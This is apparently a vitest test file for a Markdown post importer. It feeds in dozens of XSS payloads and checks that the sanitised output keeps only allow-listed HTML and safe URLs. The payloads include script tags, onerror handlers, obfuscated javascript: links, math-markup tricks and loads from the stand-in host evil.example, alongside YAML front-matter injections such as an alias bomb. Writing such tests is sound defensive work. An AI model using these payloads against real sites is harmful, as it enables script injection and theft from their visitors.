import type { Nodes } from 'mdast';
import { expect, test } from 'vitest';
import { parsePostWithTree } from '../equations/parse.ts';
import { importCorpus } from './import-corpus.ts';
import { isUnsafe } from './safe-html.ts';

/** Strangers' Markdown: what an imported post holds runs nothing, fetches nothing and breaks out of nothing. */

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="图">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">甲</a>',
  '<a href="JaVaScRiPt:alert(1)">甲</a>',
  '<a href="java&#10;script:alert(1)">甲</a>',
  '<a href="&#106;avascript:alert(1)">甲</a>',
  '<a href="javascript&colon;alert(1)">甲</a>',
  '<a href=" vbscript:x">甲</a>',
  '<a href="https://example.org/" onclick="alert(1)" style="position:fixed">甲</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><maction actiontype="statusline#http://x">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<video src=x onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)><summary>甲</summary>乙</details>',
  '<div class="note-box" onclick="alert(1)">\n乙\n</div>',
  '<p style="background:url(javascript:alert(1))">乙</p>',
  '<b onmouseover=alert(1)>乙</b>',
  '<td background="javascript:alert(1)">乙</td>',
  '<form action="https://evil.example"><input name=x><button>乙</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<!--><script>alert(1)</script>-->',
  '<!DOCTYPE html><html onload=alert(1)>',
  '<?xml version="1.0"?><?php system("x") ?>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[甲](javascript:alert(1))',
  '[甲](<javascript:alert(1)>)',
  '[甲](JAVASCRIPT:alert(1) "题")',
  '[甲](data:text/html;base64,PHNjcmlwdD4=)',
  '[甲](vbscript:x)',
  '![甲](javascript:alert(1))',
  '[![甲](https://example.org/a.png)](javascript:alert(1))',
  '[甲][1]\n\n[1]: javascript:alert(1)',
  '[甲][1]\n\n[1]: <javascript:alert(1)> "题"',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[甲](java\\script:alert(1))',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\htmlClass{evil}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlData{a=b}{x}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\def\\x{\\x\\x}\\x$',
  '$$\\rule{99999em}{99999em}$$',
  '$\\text{</span><script>alert(1)</script>}$',
  '$$x \\tag{<script>alert(1)</script>}$$',
  '$$x \\label{"><img src=x onerror=alert(1)>}$$',
  '`<script>alert(1)</script>`',
  '```html"><script>alert(1)</script>\n<b>\n```',
  ':::note[<img src=x onerror=alert(1)>]{onclick=alert(1)}\n乙\n:::',
  '| 甲 |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '## <img src=x onerror=alert(1)> 标题',
] as const;

function importText(text: string): string {
  const result = importCorpus(new Map([['a.md', text]]), {
    mode: 'all',
    dropCopies: false,
    topics: undefined,
    existing: {},
    presets: {},
    assetOf: () => undefined,
    onProgress: () => undefined,
  });
  return [...result.posts.values(), ...result.undecided.values()][0] ?? '';
}

function htmlAndAddresses(text: string): { html: string[]; addresses: string[] } {
  const { tree } = parsePostWithTree({ path: 'a.md', text }, { topic: 'a', slug: 'a', format: 'md' });
  const html: string[] = [];
  const addresses: string[] = [];
  const waiting: Nodes[] = [tree];
  for (let node = waiting.pop(); node !== undefined; node = waiting.pop()) {
    if (node.type === 'html') html.push(node.value);
    if (node.type === 'link' || node.type === 'image' || node.type === 'definition') addresses.push(node.url);
    if ('children' in node) waiting.push(...node.children);
  }
  return { html, addresses };
}

const harmless =
  /^(?:<\/?(?:br|sub|sup|b|strong|i|em|u|s|del|ins|code|kbd|mark|small|q|abbr|samp|var|wbr|ruby|rt|rp|span|details|summary|table|thead|tbody|tr|td|th|ul|ol|li|dl|dt|dd|hr|blockquote|pre|figure|figcaption)>|<(?:img|a)(?: (?:href|src|alt|title|width|height)=(?:"[^"<>]*"|'[^'<>]*'|[^\s"'<>]+))*>|<\/a>|[^<]|\\<)*$/;

test.each(payloads)('%s', (payload) => {
  const text = importText(`---\ntitle: 试验\n---\n\n前文，足够长的一句话。\n\n${payload}\n\n后文。\n`);
  expect(text).toContain('前文');
  const { html, addresses } = htmlAndAddresses(text);
  for (const value of html) expect(value).toMatch(harmless);
  expect(addresses.filter((address) => isUnsafe(address))).toEqual([]);
  for (const value of html) {
    const written = [...value.matchAll(/\b(?:href|src)=["']?([^"'>\s]+)/g)].map((match) => match[1] ?? '');
    expect(written.filter((address) => isUnsafe(address))).toEqual([]);
  }
});

test.each([
  ['title', "title: '</script><img src=x onerror=alert(1)>"],
  ['title with a line of YAML', 'title: "x\\nstatus: complete"'],
  ['title with control characters', 'title: \u001b[31m红\u0007'],
  ['source', 'source: javascript:alert(1)'],
  ['tags', "tags: [a, b]: {x: 1}, '--- '"],
  ['an alias bomb', 'title: &a [*a, *a]'],
])('front matter: %s', (_, line) => {
  const text = importText(`---\n${line}\n---\n\n正文，足够长的一句话，没有别的。\n`);
  const { derivation } = {
    derivation: parsePostWithTree({ path: 'a.md', text }, { topic: 'a', slug: 'a', format: 'md' }).derivation,
  };
  expect(derivation.frontMatter.problems).toEqual([]);
  const data = derivation.frontMatter.data as Record<string, unknown>;
  expect(Object.keys(data).sort()).toEqual(['created', 'description', 'status', 'title', 'topic', 'updated']);
  expect(data['status']).toBe('draft');
});
